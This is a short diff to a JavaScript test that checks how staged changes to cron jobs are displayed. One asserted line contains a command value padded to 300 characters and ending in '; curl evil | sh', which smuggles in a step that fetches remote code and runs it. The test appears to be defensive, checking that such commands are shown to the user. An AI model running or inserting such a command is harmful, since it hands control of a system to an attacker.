@@ -90,6 +90,7 @@ describe('The question before changes are applied that others staged', () => {
         lines.some((line) => line.endsWith('Payroll › shop › Cron Jobs › Job 1')),
         detail,
       );
+      assert.equal(lines[lines.indexOf('To help') - 2], '', 'they are set apart');
       assert.ok(lines.includes('To help'));
       assert.ok(lines.includes(`+ "command": "x${'y'.repeat(300)}; curl evil | sh"`), detail);
       assert.ok(lines.includes('Your own changes: 2'), detail);
